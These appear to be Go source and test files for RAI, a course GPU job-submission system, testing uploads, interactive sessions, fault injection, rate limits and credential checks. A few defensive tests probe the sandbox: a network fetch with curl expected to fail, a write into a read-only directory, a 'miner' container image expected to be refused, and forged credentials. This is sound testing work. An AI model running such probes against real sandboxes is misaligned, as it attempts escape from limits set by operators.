	c.Telemetry.Counter("rai_client_delta_bytes_total", "bytes sent via delta submission").Add(float64(stats.SentBytes))
	c.Telemetry.Counter("rai_client_delta_saved_bytes_total", "upload bytes avoided by chunk reuse").
		Add(float64(max64(0, stats.TotalBytes-stats.SentBytes)))

	res, err := c.submitUploaded(ctx, root, jobID, kind, spec, BucketUploads, uploadKey)
	if res != nil {
		res.Transfer = stats
	}
	return res, err
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// Compile-time: both Objects implementations speak the delta port.
var _ CASObjects = (*objstore.Client)(nil)
var _ CASObjects = LocalObjects{}

// MissingChunks implements CASObjects against the in-process engine,
// mirroring the server handler: present chunks get their TTL refreshed.
func (o LocalObjects) MissingChunks(ctx context.Context, m *cas.Manifest) ([]string, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	missing := []string{}
	for _, h := range m.ChunkSet() {
		key := cas.ChunkKey(h)
		if _, err := o.S.Head(cas.Bucket, key); err == nil {
			_ = o.S.Touch(cas.Bucket, key)
			continue
		}
		missing = append(missing, h)
	}
	return missing, nil
}

// PutChunks implements CASObjects against the in-process engine.
func (o LocalObjects) PutChunks(ctx context.Context, hashes []string, src cas.Source) (int64, error) {
	var total int64
	for _, h := range hashes {
		if err := ctx.Err(); err != nil {
			return total, err
		}
		data, err := src.Chunk(h)
		if err != nil {
			return total, err
		}
		if cas.HashHex(data) != h {
			return total, fmt.Errorf("core: chunk %s payload hashes differently", h)
		}
		if _, err := o.S.Put(cas.Bucket, cas.ChunkKey(h), data, 0); err != nil {
			return total, err
		}
		total += int64(len(data))
	}
	return total, nil
}
