package core

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/project"
)

// openSession starts a session against a worker goroutine and returns
// it with the worker running.
func openSession(t *testing.T, e *env, team string) (*Session, *Client) {
	t.Helper()
	e.worker.Cfg.AllowSessions = true
	e.worker.Cfg.RateLimit = 0
	e.worker.Cfg.SessionIdleTimeout = time.Hour
	go e.worker.RunContext(context.Background())
	t.Cleanup(e.worker.Stop)

	c := e.client(t, team)
	c.LogWait = 20 * time.Second
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: team})
	s, err := c.OpenSessionContext(context.Background(), archive)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s, c
}

func TestInteractiveSessionStatePersists(t *testing.T) {
	e := newEnv(t)
	s, _ := openSession(t, e, "team-interactive")

	// The whole point of a session: state carries between commands —
	// cmake writes the Makefile one round trip before make consumes it.
	res, err := s.Run(context.Background(), "cmake /src")
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode != 0 || !strings.Contains(res.Output, "Configuring done") {
		t.Fatalf("cmake = %+v", res)
	}
	res, err = s.Run(context.Background(), "make")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Output, "Built target ece408") {
		t.Fatalf("make = %+v", res)
	}
	res, err = s.Run(context.Background(), "./ece408 /data/test10.hdf5 /data/model.hdf5")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Output, "Correctness: 1.0000") {
		t.Fatalf("run = %+v", res)
	}
	// Debugging tools work interactively too (the §VIII motivation).
	res, err = s.Run(context.Background(), "nvprof --export-profile session.nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Output, "Generated result file") {
		t.Fatalf("nvprof = %+v", res)
	}
	// Failed commands report their exit code without ending the session.
	res, err = s.Run(context.Background(), "cat /no/such/file")
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode == 0 {
		t.Error("failed command reported exit 0")
	}
	if _, err := s.Run(context.Background(), "echo still alive"); err != nil {
		t.Fatalf("session died after failed command: %v", err)
	}
}

func TestSessionCloseUploadsBuild(t *testing.T) {
	e := newEnv(t)
	s, c := openSession(t, e, "team-close")
	if _, err := s.Run(context.Background(), "cmake /src"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Run(context.Background(), "make"); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if s.Result == nil || s.Result.Status != StatusSucceeded {
		t.Fatalf("session result = %+v", s.Result)
	}
	// The session's /build (with the compiled target) is downloadable.
	blob, err := c.DownloadBuildContext(context.Background(), &JobResult{JobID: s.JobID, BuildBucket: s.Result.BuildBucket, BuildKey: s.Result.BuildKey})
	if err != nil || len(blob) == 0 {
		t.Fatalf("build download: %d bytes, %v", len(blob), err)
	}
	// Using a closed session errors cleanly.
	if _, err := s.Run(context.Background(), "echo nope"); !errors.Is(err, ErrSessionClosed) {
		t.Fatalf("run after close: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("double close: %v", err)
	}
}

func TestSessionLimitsStillEnforced(t *testing.T) {
	e := newEnv(t)
	s, _ := openSession(t, e, "team-escape")
	// Network is still off.
	res, err := s.Run(context.Background(), "curl http://example.com")
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode == 0 || !strings.Contains(res.Output, "Network is unreachable") {
		t.Fatalf("curl in session = %+v", res)
	}
	// /src is still read-only (cp into it must fail).
	res, err = s.Run(context.Background(), "cp /src/CMakeLists.txt /src/copy.txt")
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode == 0 {
		t.Error("write into read-only /src succeeded")
	}
}

func TestSessionRejectedWhenDisabled(t *testing.T) {
	e := newEnv(t)
	// Worker without AllowSessions.
	go e.worker.RunContext(context.Background())
	t.Cleanup(e.worker.Stop)
	c := e.client(t, "team-nosess")
	c.LogWait = 10 * time.Second
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled, Team: "team-nosess"})
	_, err := c.OpenSessionContext(context.Background(), archive)
	if !errors.Is(err, ErrRejected) {
		t.Fatalf("session on non-session worker: %v", err)
	}
}

func TestSessionEndsOnExitCommand(t *testing.T) {
	e := newEnv(t)
	s, _ := openSession(t, e, "team-exit")
	if _, err := s.Run(context.Background(), "echo hi"); err != nil {
		t.Fatal(err)
	}
	// "exit" ends the session; the pending waitCmdDone sees End.
	_, err := s.Run(context.Background(), "exit")
	if !errors.Is(err, ErrSessionClosed) {
		t.Fatalf("exit command: %v", err)
	}
	if s.Result == nil || s.Result.Status != StatusSucceeded {
		t.Fatalf("result after exit = %+v", s.Result)
	}
}

func TestSessionRecordedInDatabase(t *testing.T) {
	e := newEnv(t)
	s, _ := openSession(t, e, "team-audit")
	s.Run(context.Background(), "echo audited")
	s.Close()
	doc, err := e.db.FindOne(CollJobs, map[string]any{"job_id": s.JobID})
	if err != nil {
		t.Fatal(err)
	}
	if doc["kind"] != KindSession || doc["status"] != StatusSucceeded {
		t.Fatalf("session job doc = %v", doc)
	}
}
