package core

import (
	"context"
	"errors"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
)

// flakyObjects wraps an Objects port and fails selected operations.
type flakyObjects struct {
	inner    Objects
	mu       sync.Mutex
	failGets int // fail this many Get calls, then recover
	failPuts int
}

func (f *flakyObjects) Get(ctx context.Context, bucket, key string) ([]byte, error) {
	f.mu.Lock()
	fail := f.failGets > 0
	if fail {
		f.failGets--
	}
	f.mu.Unlock()
	if fail {
		return nil, errors.New("injected: file server unavailable")
	}
	return f.inner.Get(ctx, bucket, key)
}

func (f *flakyObjects) Put(ctx context.Context, bucket, key string, data []byte, ttl time.Duration) error {
	f.mu.Lock()
	fail := f.failPuts > 0
	if fail {
		f.failPuts--
	}
	f.mu.Unlock()
	if fail {
		return errors.New("injected: file server unavailable")
	}
	return f.inner.Put(ctx, bucket, key, data, ttl)
}

// The streaming pair shares the failure counters with Get/Put, so the
// worker's streamed download path exercises the same injected faults.
func (f *flakyObjects) GetReader(ctx context.Context, bucket, key string) (io.ReadCloser, int64, error) {
	f.mu.Lock()
	fail := f.failGets > 0
	if fail {
		f.failGets--
	}
	f.mu.Unlock()
	if fail {
		return nil, 0, errors.New("injected: file server unavailable")
	}
	return f.inner.GetReader(ctx, bucket, key)
}

func (f *flakyObjects) PutReader(ctx context.Context, bucket, key string, r io.Reader, size int64, ttl time.Duration) error {
	f.mu.Lock()
	fail := f.failPuts > 0
	if fail {
		f.failPuts--
	}
	f.mu.Unlock()
	if fail {
		return errors.New("injected: file server unavailable")
	}
	return f.inner.PutReader(ctx, bucket, key, r, size, ttl)
}

func (f *flakyObjects) List(ctx context.Context, bucket, prefix string) ([]objstore.ObjectInfo, error) {
	return f.inner.List(ctx, bucket, prefix)
}

func (f *flakyObjects) Delete(ctx context.Context, bucket, key string) error {
	return f.inner.Delete(ctx, bucket, key)
}

// failingDB wraps a docstore.Store and errors every write.
type failingDB struct{ inner docstore.Store }

func (f failingDB) Insert(coll string, doc any) (string, error) {
	return "", errors.New("injected: database down")
}
func (f failingDB) Find(coll string, filter docstore.M, opts docstore.FindOpts) ([]docstore.M, error) {
	return nil, errors.New("injected: database down")
}
func (f failingDB) FindOne(coll string, filter docstore.M) (docstore.M, error) {
	return nil, errors.New("injected: database down")
}
func (f failingDB) Count(coll string, filter docstore.M) (int, error) {
	return 0, errors.New("injected: database down")
}
func (f failingDB) Update(coll string, filter, update docstore.M) (int, error) {
	return 0, errors.New("injected: database down")
}
func (f failingDB) Upsert(coll string, filter, update docstore.M) (string, error) {
	return "", errors.New("injected: database down")
}
func (f failingDB) Delete(coll string, filter docstore.M) (int, error) {
	return 0, errors.New("injected: database down")
}

func TestWorkerDownloadFailureFailsJobCleanly(t *testing.T) {
	e := newEnv(t)
	flaky := &flakyObjects{inner: e.objects, failGets: 100}
	e.worker.Objects = flaky
	c := e.client(t, "team-flaky")
	var term strings.Builder
	c.Stdout = &term
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	// The client is told, promptly and cleanly — no hang, no crash.
	if res.Status != StatusFailed {
		t.Fatalf("status = %q", res.Status)
	}
	if !strings.Contains(term.String(), "cannot download project archive") {
		t.Errorf("terminal:\n%s", term.String())
	}
}

func TestWorkerUploadFailureStillEndsJob(t *testing.T) {
	e := newEnv(t)
	// Client upload works (client uses the real port); only the worker's
	// build upload fails.
	flaky := &flakyObjects{inner: e.objects, failPuts: 100}
	e.worker.Objects = flaky
	c := e.client(t, "team-buildup")
	var term strings.Builder
	c.Stdout = &term
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	// The job itself succeeded; only the artifact upload was lost.
	if res.Status != StatusSucceeded {
		t.Fatalf("status = %q", res.Status)
	}
	if res.BuildKey != "" {
		t.Error("build key advertised despite failed upload")
	}
	if !strings.Contains(term.String(), "failed to upload build directory") {
		t.Errorf("terminal:\n%s", term.String())
	}
}

func TestWorkerSurvivesDatabaseOutage(t *testing.T) {
	e := newEnv(t)
	e.worker.DB = failingDB{inner: e.db}
	e.worker.Cfg.RateLimit = 0 // the limiter consults the (down) DB
	c := e.client(t, "team-dbless")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	// Metadata is best-effort; execution is not gated on the database.
	if res.Status != StatusSucceeded {
		t.Fatalf("status = %q", res.Status)
	}
}

func TestRateLimitFailsOpenWhenDBDown(t *testing.T) {
	e := newEnv(t)
	e.worker.DB = failingDB{inner: e.db}
	// RateLimit active, but its source of truth is down: jobs proceed
	// (availability over strictness for a dev-loop limiter).
	c := e.client(t, "team-ratelimit-db")
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil || res.Status != StatusSucceeded {
		t.Fatalf("res = %+v, %v", res, err)
	}
}

func TestClientUploadFailure(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-up")
	c.Objects = &flakyObjects{inner: e.objects, failPuts: 1}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	if _, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive); err == nil || !strings.Contains(err.Error(), "uploading project") {
		t.Fatalf("upload failure: %v", err)
	}
}

// TestCrashedWorkerJobIsRedelivered is the §V resiliency story end to
// end: a worker accepts a job and dies before acknowledging; the broker
// requeues it and a healthy worker completes it — the client never
// notices beyond the delay.
func TestCrashedWorkerJobIsRedelivered(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-resilient")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-resilient"})

	type out struct {
		res *JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
		done <- out{res, err}
	}()

	// The doomed worker: takes the message off rai/tasks and crashes
	// (connection close) without acking.
	doomed, err := e.queue.Subscribe(context.Background(), TasksTopic, TasksChannel, 1)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-doomed.C():
		// received, never acked
	case <-time.After(5 * time.Second):
		t.Fatal("doomed worker never got the job")
	}
	doomed.Close() // crash: broker requeues the in-flight job

	// A healthy worker picks the redelivered job up.
	if _, err := e.worker.HandleOne(context.Background(), 5*time.Second); err != nil {
		t.Fatal(err)
	}
	select {
	case o := <-done:
		if o.err != nil {
			t.Fatal(o.err)
		}
		if o.res.Status != StatusSucceeded {
			t.Fatalf("status = %q", o.res.Status)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("client never got the End message after worker crash")
	}
}

func TestGPUResourceRequestEnforced(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-multi-gpu")
	spec := &build.Spec{RAI: build.Section{
		Version:   "0.2",
		Image:     "webgpu/rai:root",
		Resources: build.Resources{GPUs: 4},
		Commands:  build.Commands{Build: []string{"echo hi"}},
	}}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	// Default worker offers 1 GPU: rejected.
	_, err := submitAndHandle(t, e, c, KindRun, spec, archive)
	if !errors.Is(err, ErrRejected) {
		t.Fatalf("4-GPU spec on 1-GPU worker: %v", err)
	}
	// A 4-GPU worker accepts it.
	e.worker.Cfg.GPUs = 4
	e.clock.Advance(time.Minute)
	res, err := submitAndHandle(t, e, c, KindRun, spec, archive)
	if err != nil || res.Status != StatusSucceeded {
		t.Fatalf("4-GPU spec on 4-GPU worker: %v %+v", err, res)
	}
}

func TestMalformedQueueMessageIgnored(t *testing.T) {
	e := newEnv(t)
	// Garbage on the tasks topic must not wedge the worker.
	if err := e.queue.Publish(context.Background(), TasksTopic, []byte("{not json")); err != nil {
		t.Fatal(err)
	}
	handled, err := e.worker.HandleOne(context.Background(), 2*time.Second)
	if err != nil || !handled {
		t.Fatalf("malformed message: handled=%v err=%v", handled, err)
	}
	// The worker is still healthy for real jobs.
	c := e.client(t, "team-after-garbage")
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil || res.Status != StatusSucceeded {
		t.Fatalf("post-garbage job: %v %+v", res, err)
	}
}
