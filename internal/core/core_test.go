package core

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"rai/internal/archivex"
	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/build"
	"rai/internal/clock"
	"rai/internal/cnn"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/vfs"
)

// env is a full in-process RAI deployment (Figure 1 without the wires).
type env struct {
	broker  *broker.Broker
	queue   Queue
	objects Objects
	db      *docstore.DB
	authReg *auth.Registry
	images  *registry.Registry
	dataFS  *vfs.FS
	clock   *clock.Virtual
	worker  *Worker
}

var epoch = time.Date(2016, 11, 28, 9, 0, 0, 0, time.UTC)

func newEnv(t *testing.T) *env {
	t.Helper()
	vc := clock.NewVirtual(epoch)
	b := broker.New(broker.WithClock(vc))
	t.Cleanup(func() { b.Close() })
	store := objstore.New(objstore.WithClock(vc))
	db := docstore.New()
	ar := auth.NewRegistry()
	ar.SetClock(vc.Now)

	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, err := nw.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	dataFS.WriteFile("/data/model.hdf5", model)
	small, _ := cnn.SynthesizeDataset(nw, 5, 10)
	blob, _ := small.Encode()
	dataFS.WriteFile("/data/test10.hdf5", blob)
	full, _ := cnn.SynthesizeDataset(nw, 6, 20)
	blob, _ = full.Encode()
	dataFS.WriteFile("/data/testfull.hdf5", blob)

	e := &env{
		broker:  b,
		queue:   BrokerQueue{B: b},
		objects: LocalObjects{S: store},
		db:      db,
		authReg: ar,
		images:  registry.NewCourseRegistry(),
		dataFS:  dataFS,
		clock:   vc,
	}
	e.worker = &Worker{
		Cfg:      WorkerConfig{ID: "w1", MaxConcurrent: 1},
		Queue:    e.queue,
		Objects:  e.objects,
		DB:       db,
		Auth:     ar,
		Images:   e.images,
		DataFS:   dataFS,
		DataPath: "/data",
		Clock:    vc,
	}
	return e
}

// client issues credentials and builds a client for user.
func (e *env) client(t *testing.T, user string) *Client {
	t.Helper()
	creds, err := e.authReg.Issue(user)
	if err != nil {
		t.Fatal(err)
	}
	return &Client{Creds: creds, Queue: e.queue, Objects: e.objects, Clock: e.clock, Stdout: &bytes.Buffer{}}
}

// packProject renders and packs a project spec.
func packProject(t *testing.T, spec project.Spec) []byte {
	t.Helper()
	fs := vfs.New()
	if err := project.WriteTo(fs, "/p", spec); err != nil {
		t.Fatal(err)
	}
	blob, err := archivex.PackVFS(fs, "/p")
	if err != nil {
		t.Fatal(err)
	}
	return blob
}

// submitAndHandle runs the client submit concurrently with one worker
// handling.
func submitAndHandle(t *testing.T, e *env, c *Client, kind string, spec *build.Spec, archive []byte) (*JobResult, error) {
	t.Helper()
	type out struct {
		res *JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.SubmitContext(context.Background(), kind, spec, archive)
		done <- out{res, err}
	}()
	if _, err := e.worker.HandleOne(context.Background(), 5*time.Second); err != nil {
		t.Fatal(err)
	}
	select {
	case o := <-done:
		return o.res, o.err
	case <-time.After(10 * time.Second):
		t.Fatal("client did not finish")
		return nil, nil
	}
}

func TestEndToEndRunJob(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-alpha")
	var termOut bytes.Buffer
	c.Stdout = &termOut
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-alpha"})

	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatalf("submit: %v\nterminal:\n%s", err, termOut.String())
	}
	if res.Status != StatusSucceeded {
		t.Fatalf("status = %q\nterminal:\n%s", res.Status, termOut.String())
	}
	if res.Accuracy != 1.0 {
		t.Errorf("accuracy = %v", res.Accuracy)
	}
	if res.InternalTimer <= 0 {
		t.Errorf("internal timer = %v", res.InternalTimer)
	}
	// The student's terminal shows the build output streamed from the
	// worker through the log topic.
	for _, want := range []string{"Building project", "Built target ece408", "Correctness: 1.0000", "build directory uploaded"} {
		if !strings.Contains(termOut.String(), want) {
			t.Errorf("terminal output missing %q:\n%s", want, termOut.String())
		}
	}
	// The /build archive is retrievable and contains the nvprof timeline.
	buildBlob, err := c.DownloadBuildContext(context.Background(), res)
	if err != nil {
		t.Fatal(err)
	}
	outFS := vfs.New()
	if err := archivex.UnpackVFS(buildBlob, outFS, "/b", archivex.Limits{}); err != nil {
		t.Fatal(err)
	}
	if !outFS.Exists("/b/timeline.nvprof") {
		t.Error("timeline.nvprof missing from downloaded /build")
	}
	// The ephemeral log topic was garbage collected.
	if e.broker.HasTopic(LogTopic(res.JobID)) {
		t.Error("log topic not garbage collected")
	}
	// The job record landed in the database.
	doc, err := e.db.FindOne(CollJobs, docstore.M{"job_id": res.JobID})
	if err != nil {
		t.Fatal(err)
	}
	if doc["status"] != StatusSucceeded || doc["user"] != "team-alpha" {
		t.Errorf("job doc = %v", doc)
	}
}

func TestEndToEndFinalSubmission(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-beta")
	archive := packProject(t, project.Spec{
		Impl: cnn.ImplParallel, Team: "team-beta", WithUsage: true, WithReport: true,
	})
	res, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded {
		t.Fatalf("status = %q", res.Status)
	}
	// The enforced Listing 2 spec ran the full dataset: ranking recorded.
	doc, err := e.db.FindOne(CollRankings, docstore.M{"team": "team-beta"})
	if err != nil {
		t.Fatalf("ranking record: %v", err)
	}
	if doc["runtime_s"].(float64) <= 0 {
		t.Errorf("ranking = %v", doc)
	}
	// Instructor-only /usr/bin/time report stored in the job record.
	jdoc, _ := e.db.FindOne(CollJobs, docstore.M{"job_id": res.JobID})
	if tr, _ := jdoc["time_report"].(string); !strings.Contains(tr, "real ") {
		t.Errorf("time_report = %q", jdoc["time_report"])
	}
	// The build archive contains the copied submission code (Listing 2
	// line 7).
	blob, err := c.DownloadBuildContext(context.Background(), res)
	if err != nil {
		t.Fatal(err)
	}
	outFS := vfs.New()
	archivex.UnpackVFS(blob, outFS, "/b", archivex.Limits{})
	if !outFS.Exists("/b/submission_code/CMakeLists.txt") {
		t.Error("submission_code missing from build archive")
	}
}

func TestSubmissionOverwritesRanking(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-gamma")
	slow := packProject(t, project.Spec{Impl: cnn.ImplTiled, Tuning: 1.4, WithUsage: true, WithReport: true})
	fast := packProject(t, project.Spec{Impl: cnn.ImplParallel, Tuning: 0.9, WithUsage: true, WithReport: true})

	if _, err := submitAndHandle(t, e, c, KindSubmit, nil, slow); err != nil {
		t.Fatal(err)
	}
	doc1, _ := e.db.FindOne(CollRankings, docstore.M{"team": "team-gamma"})
	e.clock.Advance(time.Minute) // clear the rate limit
	if _, err := submitAndHandle(t, e, c, KindSubmit, nil, fast); err != nil {
		t.Fatal(err)
	}
	doc2, _ := e.db.FindOne(CollRankings, docstore.M{"team": "team-gamma"})
	if n, _ := e.db.Count(CollRankings, docstore.M{}); n != 1 {
		t.Fatalf("ranking rows = %d, want 1 (overwrite semantics)", n)
	}
	if doc2["runtime_s"].(float64) >= doc1["runtime_s"].(float64) {
		t.Errorf("second submission (%v) not faster than first (%v)", doc2["runtime_s"], doc1["runtime_s"])
	}
}

func TestFinalSubmissionRequiresReportAndUsage(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-delta")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col}) // no USAGE/report.pdf
	res, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusFailed {
		t.Fatalf("status = %q, want failed (missing USAGE/report.pdf)", res.Status)
	}
}

func TestBadCredentialsRejected(t *testing.T) {
	e := newEnv(t)
	// Credentials never issued by the instructor tool.
	c := &Client{
		Creds:   auth.NewCredentials("impostor"),
		Queue:   e.queue,
		Objects: e.objects,
		Clock:   e.clock,
	}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, nil, archive)
	if !errors.Is(err, ErrRejected) {
		t.Fatalf("err = %v, want ErrRejected", err)
	}
	if res.Status != StatusRejected {
		t.Fatalf("status = %q", res.Status)
	}
}

func TestTamperedTokenRejected(t *testing.T) {
	e := newEnv(t)
	creds, _ := e.authReg.Issue("team-x")
	// A forged request claiming another team's identity but signed with
	// the wrong secret.
	forged := auth.Credentials{UserName: "team-y", AccessKey: creds.AccessKey, SecretKey: "wrong-secret-key-wrong-key"}
	c := &Client{Creds: forged, Queue: e.queue, Objects: e.objects, Clock: e.clock}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	if _, err := submitAndHandle(t, e, c, KindRun, nil, archive); !errors.Is(err, ErrRejected) {
		t.Fatalf("forged token: %v", err)
	}
}

func TestRateLimit30Seconds(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-spam")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col})
	if _, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive); err != nil {
		t.Fatal(err)
	}
	// 10 simulated seconds later: rejected.
	e.clock.Advance(10 * time.Second)
	if _, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive); !errors.Is(err, ErrRejected) {
		t.Fatalf("rapid resubmit: %v", err)
	}
	// 31 seconds after the first: accepted.
	e.clock.Advance(21 * time.Second)
	if _, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive); err != nil {
		t.Fatalf("post-cooldown submit: %v", err)
	}
}

func TestCompileErrorReportedToStudent(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-broken")
	var term bytes.Buffer
	c.Stdout = &term
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled, Bug: "compile"})
	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusFailed {
		t.Fatalf("status = %q", res.Status)
	}
	if !strings.Contains(term.String(), "Error 1") {
		t.Errorf("compiler diagnostics not streamed:\n%s", term.String())
	}
	// Failed builds still upload /build so students can inspect logs.
	if res.BuildKey == "" {
		t.Error("no build artifact for failed job")
	}
}

func TestStudentSpecUsedForRun(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-custom")
	var term bytes.Buffer
	c.Stdout = &term
	spec := &build.Spec{RAI: build.Section{
		Version: "0.1",
		Image:   "webgpu/rai:root",
		Commands: build.Commands{Build: []string{
			`echo "custom step one"`,
			`cmake /src`,
			`make`,
		}},
	}}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, spec, archive)
	if err != nil || res.Status != StatusSucceeded {
		t.Fatalf("custom spec run: %v %+v", err, res)
	}
	if !strings.Contains(term.String(), "custom step one") {
		t.Errorf("custom command did not run:\n%s", term.String())
	}
}

func TestNonWhitelistedImageFails(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-evil")
	spec := &build.Spec{RAI: build.Section{
		Version:  "0.1",
		Image:    "evil/miner:latest",
		Commands: build.Commands{Build: []string{"echo hi"}},
	}}
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	res, err := submitAndHandle(t, e, c, KindRun, spec, archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusFailed {
		t.Fatalf("status = %q, want failed for non-whitelisted image", res.Status)
	}
}

func TestPrepareProject(t *testing.T) {
	fs := vfs.New()
	project.WriteTo(fs, "/p", project.Spec{Impl: cnn.ImplTiled})
	spec, err := PrepareProject(fs, "/p")
	if err != nil {
		t.Fatal(err)
	}
	if spec.RAI.Image != "webgpu/rai:root" {
		t.Errorf("student spec image = %q", spec.RAI.Image)
	}
	// Without rai-build.yml the Listing 1 default applies.
	fs.Remove("/p/rai-build.yml")
	spec, err = PrepareProject(fs, "/p")
	if err != nil {
		t.Fatal(err)
	}
	if len(spec.RAI.Commands.Build) != len(build.Default().RAI.Commands.Build) {
		t.Error("default spec not used")
	}
	if _, err := PrepareProject(fs, "/missing"); err == nil {
		t.Error("missing project dir accepted")
	}
	// A malformed rai-build.yml is a loud error, not a silent default.
	fs.WriteFile("/p/rai-build.yml", []byte("rai:\n  version: 99\n"))
	if _, err := PrepareProject(fs, "/p"); err == nil {
		t.Error("malformed spec accepted")
	}
}

func TestWorkerRunLoopAndStop(t *testing.T) {
	e := newEnv(t)
	workerDone := make(chan struct{})
	go func() {
		e.worker.RunContext(context.Background())
		close(workerDone)
	}()
	c := e.client(t, "team-loop")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col})
	res, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
	if err != nil || res.Status != StatusSucceeded {
		t.Fatalf("submit via run loop: %v %+v", err, res)
	}
	e.worker.Stop()
	select {
	case <-workerDone:
	case <-time.After(5 * time.Second):
		t.Fatal("worker did not stop")
	}
	if e.worker.Handled() != 1 {
		t.Errorf("Handled = %d", e.worker.Handled())
	}
}

func TestMultiConcurrentWorker(t *testing.T) {
	e := newEnv(t)
	e.worker.Cfg.MaxConcurrent = 4
	e.worker.Cfg.RateLimit = 0
	go e.worker.RunContext(context.Background())
	defer e.worker.Stop()

	const jobs = 4
	errs := make(chan error, jobs)
	for i := 0; i < jobs; i++ {
		c := e.client(t, "team-par-"+string(rune('a'+i)))
		archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
		go func(c *Client) {
			res, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
			if err == nil && res.Status != StatusSucceeded {
				err = errors.New("status " + res.Status)
			}
			errs <- err
		}(c)
	}
	for i := 0; i < jobs; i++ {
		select {
		case err := <-errs:
			if err != nil {
				t.Fatal(err)
			}
		case <-time.After(20 * time.Second):
			t.Fatal("parallel jobs stalled")
		}
	}
}

func TestClientUploadTTLApplied(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-ttl")
	archive := packProject(t, project.Spec{Impl: cnn.ImplTiled})
	if _, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive); err != nil {
		t.Fatal(err)
	}
	store := e.objects.(LocalObjects).S
	infos, err := store.List(BucketUploads, "team-ttl/")
	if err != nil || len(infos) != 1 {
		t.Fatalf("uploads = %v, %v", infos, err)
	}
	if infos[0].TTL != UploadTTL {
		t.Errorf("upload TTL = %v, want %v", infos[0].TTL, UploadTTL)
	}
}

func TestLineWriter(t *testing.T) {
	var lines []string
